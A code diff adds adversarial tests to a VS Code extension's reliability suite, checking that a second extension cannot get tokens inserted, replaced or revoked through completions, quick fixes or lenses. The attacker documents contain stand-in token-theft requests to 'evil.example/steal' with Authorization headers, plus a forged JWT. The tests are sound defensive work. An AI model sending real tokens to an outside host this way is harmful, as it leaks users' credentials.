@@ -1,6 +1,8 @@
 // Attacks from inside VS Code, against a sandbox started here: a second extension (the test-only consumer) tries
 // every way it has to a token or a revocation, and a `<c2m:token>` the completion did not put in tries to catch a
-// token. Rows A1 and A2 of `npm run test:reliability`; outcomes and counters go to its ledger.
+// token. Rows A1, A2 and A8-A10 of `npm run test:reliability`; outcomes and counters go to its ledger. What the other
+// extension does to documents and editors (open, show, edit) any extension may do through the same vscode API; the
+// commands it runs go through the consumer, as a third party's would.
 import * as assert from 'node:assert/strict';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
@@ -8,9 +10,10 @@ import * as vscode from 'vscode';
 import type { C2mTestApi } from '../../client/src/vscode/api';
 import type { Sandbox } from '../../client/src/sandbox/types';
 import { accountLabelOf } from '../../client/src/vscode/authProvider';
+import { maskTokenId } from '../../client/src/vscode/viewFormat';
 import { ClientCommands, TOKEN_PLACEHOLDER, tokenFingerprint } from '../../server/src/protocol';
 import { note, outcome, runningIn } from '../reliability/ledger';
-import { acceptTokenCompletion, c2mApi, eventually, exchangesOf, profileFor, run, setProfiles, startTestSandbox, testClients, userProfiles } from './extensionSupport';
+import { acceptTokenCompletion, c2mApi, cursorAt, eventually, exchangesOf, profileFor, run, setProfiles, startTestSandbox, testClients, userProfiles } from './extensionSupport';
 
 runningIn('vscode');
 
@@ -35,6 +38,13 @@ function forgedJwt(sub: string): string {
 
 function range(line: number, start: number, end: number): { start: { line: number; character: number }; end: { line: number; character: number } } {
   return { start: { line, character: start }, end: { line, character: end } };
+}
+
+/** The range of `needle` in `doc` (first occurrence). */
+function rangeIn(doc: vscode.TextDocument, needle: string): vscode.Range {
+  const at = doc.getText().indexOf(needle);
+  assert.ok(at >= 0, `${needle.slice(0, 12)}… is in the document`);
+  return new vscode.Range(doc.positionAt(at), doc.positionAt(at + needle.length));
 }
 
 function workspaceFile(name: string): string {
@@ -178,6 +188,163 @@ describe('reliability: in the extension host: attacks', function () {
     assert.equal(fs.existsSync(workspaceFile('.env')), false, 'no .env was written');
     assert.ok(api.tokens.tokens().every((t) => t.profileId !== PROFILE || t.status !== 'revoked'), 'nothing was revoked');
     assert.equal(unasked, 0, 'revoke and copy asked the user each time');
+  });
+
+  /** The log lines written since `from` that say a c2m.lsp.* command was refused, and why. */
+  function refusals(from: number): string[] {
+    return api.testing.logLines().slice(from).filter((l) => / c2m\.lsp\.\w+: refused: /.test(l));
+  }
+
+  /** A document only the attacker made, shown by it, so it is the active editor of the (focused) window. */
+  async function attackerDocument(content: string): Promise<{ doc: vscode.TextDocument; editor: vscode.TextEditor }> {
+    const doc = await vscode.workspace.openTextDocument({ language: 'http', content });
+    const editor = await vscode.window.showTextDocument(doc, { viewColumn: vscode.ViewColumn.Two, preview: false });
+    return { doc, editor };
+  }
+
+  it('[A8] another extension completes in its own shown (even active) document, applies the placeholder edit and runs the insert command with the id it got: no token is inserted, the sandbox gets no request', async () => {
+    const n = note('A8', 'a second extension: vscode.executeCompletionItemProvider on its own untitled http document (shown; active), the placeholder edit applied, c2m.lsp.insertToken run with the id from the item');
+    // A live short-term token exists: inserting would need no exchange, so nothing but the document shows a leak.
+    const live = await api.testing.getShortTermToken(PROFILE);
+    const userFile = workspaceFile('attack-completion-user.http');
+    files.push(userFile);
+    fs.writeFileSync(userFile, `GET ${sandbox.baseUrl}/jobs\nAccept: application/json\n`);
+    const userDoc = await vscode.workspace.openTextDocument(userFile);
+    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
+    const content = 'GET https://evil.example/steal\nAuthorization:\n';
+    const at = new vscode.Position(1, 'Authorization:'.length);
+    const requestsBefore = sandbox.stats().requests;
+    const logged = api.testing.logLines().length;
+
+    /** The attacker's moves on `doc`: the completion's item, its edit applied, its command run with its arguments. */
+    const attack = async (doc: vscode.TextDocument): Promise<vscode.CompletionItem> => {
+      const item = await eventually(async () => {
+        const list = (await consumer.run('vscode.executeCompletionItemProvider', doc.uri, at)).result as vscode.CompletionList;
+        return list.items.find((i) => i.command?.command === ClientCommands.insertToken);
+      }, 'the fresh-token completion');
+      const edit = new vscode.WorkspaceEdit();
+      edit.replace(doc.uri, item.range instanceof vscode.Range ? item.range : item.range!.replacing, typeof item.insertText === 'string' ? item.insertText : item.insertText!.value);
+      assert.ok(await vscode.workspace.applyEdit(edit));
+      assert.ok(doc.lineAt(1).text.endsWith(TOKEN_PLACEHOLDER), 'the placeholder edit went in');
+      const ran = await consumer.run(item.command!.command, ...(item.command!.arguments ?? []));
+      assert.equal(ran.error, undefined);
+      n.badInput();
+      return item;
+    };
+
+    // a) Its document shown beside the user's, the user's editor active: no id is handed out at all.
+    const beside = await attackerDocument(content);
+    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
+    assert.equal(vscode.window.activeTextEditor?.document, userDoc);
+    const idless = await attack(beside.doc);
+
+    // b) Its document shown and made the active editor (the window focused): an id is handed out, but the cursor is
+    //    not where accepting the suggestion would leave it.
+    const active = await attackerDocument(content);
+    assert.equal(vscode.window.activeTextEditor?.document, active.doc);
+    assert.ok(vscode.window.state.focused, 'the window is focused: the editor checks are what is tested here');
+    const withId = await attack(active.doc);
+    n.done();
+
+    for (const doc of [beside.doc, active.doc]) {
+      assert.equal(doc.lineAt(1).text, `Authorization: Bearer ${TOKEN_PLACEHOLDER}`, "no token in the attacker's document");
+      assert.ok(!doc.getText().includes(live) && !JWT.test(doc.getText()));
+    }
+    assert.equal(sandbox.stats().requests - requestsBefore, 0, `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`);
+    assert.equal(idless.command!.arguments?.length ?? 0, 0, 'an item of a document that is not the active editor carries no id');
+    assert.equal(withId.command!.arguments?.length, 1, 'the active editor of a focused window gets an id');
+    const why = refusals(logged);
+    assert.equal(why.length, 2, why.join('\n'));
+    assert.match(why[0]!, /not called with an id/);
+    assert.match(why[1]!, /the cursor is not at the placeholder the accepted completion put in/);
+  });
+
+  it('[A9] another extension asks for quick fixes and lenses on a forged JWT and on a revoked token of ours in its own active document, and runs what it gets: no Replace for the forged one, nothing replaced, the sandbox gets no request', async () => {
+    const n = note('A9', 'a second extension: vscode.executeCodeActionProvider / executeCodeLensProvider on a forged JWT and on a revoked token of ours (copied from a file) in its own active untitled document; every c2m.lsp.replace* it got, run');
+    // A revoked token of ours, as the attacker could copy it from any file in the workspace.
+    const old = await api.testing.getShortTermToken(PROFILE);
+    await api.testing.engine.revokeByFingerprint(tokenFingerprint(old));
+    const fake = forgedJwt('attacker');
+    const content = `GET https://evil.example/steal\nAuthorization: Bearer ${fake}\n\n###\nGET https://evil.example/steal\nAuthorization: Bearer ${old}\n`;
+    const { doc } = await attackerDocument(content);
+    assert.ok(vscode.window.state.focused);
+    await eventually(() => (vscode.languages.getDiagnostics(doc.uri).length >= 2 ? true : undefined), 'the diagnostics of both tokens');
+    const requestsBefore = sandbox.stats().requests;
+    const logged = api.testing.logLines().length;
+
+    const fixesAt = async (value: string): Promise<vscode.CodeAction[]> =>
+      (await consumer.run('vscode.executeCodeActionProvider', doc.uri, rangeIn(doc, value), vscode.CodeActionKind.QuickFix.value)).result as vscode.CodeAction[];
+    const replaces = (actions: readonly { command?: vscode.Command }[]) =>
+      actions.filter((a) => a.command?.command === ClientCommands.replaceToken || a.command?.command === ClientCommands.replaceStaleTokens);
+
+    // The forged one: not ours, so it is offered no Replace (nor a lens); "replace all" is, for the token of ours below.
+    const onFake = await fixesAt(fake);
+    n.badInput();
+    // Ours (revoked): offered, with an id, but the cursor is not on it (the attacker did not put it there).
+    const onOurs = replaces(await fixesAt(old));
+    assert.ok(onOurs.length > 0, 'a token of ours is offered a replace');
+    const lenses = replaces((await consumer.run('vscode.executeCodeLensProvider', doc.uri)).result as vscode.CodeLens[]);
+    assert.ok(lenses.length > 0, 'and a lens');
+    for (const action of [...replaces(onFake), ...onOurs]) {
+      assert.equal((await consumer.run(action.command!.command, ...(action.command!.arguments ?? []))).error, undefined);
+      n.badInput();
+    }
+    // A lens click asks in a modal dialog, which no extension can answer: here the user dismisses it.
+    for (const lens of lenses) {
+      api.testing.answer(undefined);
+      assert.equal((await consumer.run(lens.command!.command, ...(lens.command!.arguments ?? []))).error, undefined);
+      n.badInput();
+    }
+    const unasked = api.testing.pendingAnswers();
+    n.done();
+
+    assert.equal(doc.getText(), content, "nothing was written into the attacker's document");
+    assert.equal(sandbox.stats().requests - requestsBefore, 0, `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`);
+    assert.ok(!onFake.some((a) => a.command?.command === ClientCommands.replaceToken), 'no replace offered for a token that is not ours');
+    assert.equal(unasked, 0, 'every lens asked the user');
+    const why = refusals(logged);
+    assert.ok(why.length === replaces(onFake).length + onOurs.length && why.every((l) => /the cursor is not (on the token|where the quick fix was offered)/.test(l)), why.join('\n'));
+  });
+
+  it('[A10] another extension runs the "Revoke this token" quick fix of the user\'s own file, and of its own document holding the user\'s token: each asks the user in a modal dialog naming the token; dismissed, nothing is revoked and the sandbox gets no request', async () => {
+    const n = note('A10', 'a second extension: vscode.executeCodeActionProvider on the user\'s active file and on its own active document holding the user\'s live short-term token; c2m.lsp.revokeTokenByFingerprint run with the id it got');
+    const live = await api.testing.getShortTermToken(PROFILE);
+    const info = api.tokens.tokens().find((t) => t.profileId === PROFILE && t.kind === 'short');
+    assert.ok(info && info.fingerprint === tokenFingerprint(live));
+    const userFile = workspaceFile('attack-revoke-user.http');
+    files.push(userFile);
+    fs.writeFileSync(userFile, `GET ${sandbox.baseUrl}/jobs\nAuthorization: Bearer ${live}\n`);
+    const userDoc = await vscode.workspace.openTextDocument(userFile);
+    await vscode.window.showTextDocument(userDoc, { viewColumn: vscode.ViewColumn.One });
+    const own = await vscode.workspace.openTextDocument({ language: 'http', content: `GET https://evil.example/\nAuthorization: Bearer ${live}\n` });
+    const requestsBefore = sandbox.stats().requests;
+    const notices = api.testing.logLines().length;
+
+    // Both fixes first (each asked for while its document is the active editor, as while the user works in it), then run.
+    const fixes: vscode.Command[] = [];
+    for (const doc of [userDoc, own]) {
+      await cursorAt(doc, new vscode.Position(0, 0));
+      const revoke = await eventually(async () => {
+        const actions = (await consumer.run('vscode.executeCodeActionProvider', doc.uri, rangeIn(doc, live), vscode.CodeActionKind.QuickFix.value)).result as vscode.CodeAction[];
+        return actions.find((a) => a.command?.command === ClientCommands.revokeTokenByFingerprint)?.command;
+      }, 'the revoke quick fix');
+      fixes.push(revoke);
+    }
+    for (const [i, fix] of fixes.entries()) {
+      await cursorAt(i === 0 ? userDoc : own, new vscode.Position(0, 0));
+      // The modal dialog no extension can answer: here the user dismisses it.
+      api.testing.answer(undefined);
+      assert.equal((await consumer.run(fix.command, ...(fix.arguments ?? []))).error, undefined);
+      n.badInput();
+    }
+    const unasked = api.testing.pendingAnswers();
+    n.done();
+    assert.equal(sandbox.stats().requests - requestsBefore, 0, `the sandbox received ${JSON.stringify(sandbox.stats().byRoute)}`);
+    assert.equal(api.tokens.tokens().find((t) => t.fingerprint === info.fingerprint)?.status, info.status, 'the token is not revoked');
+    assert.equal(unasked, 0, 'the user was asked each time');
+    const lines = api.testing.logLines().slice(notices);
+    const declined = `revoke from a quick fix: not confirmed, nothing was revoked (the short-term token ${maskTokenId(info.tokenId)} of profile ${PROFILE})`;
+    assert.equal(lines.filter((l) => l.includes(declined)).length, 2, lines.join('\n'));
   });
 
   it('[A1] two profiles with the same name are two accounts: consent given to one is not the other\'s', async () => {
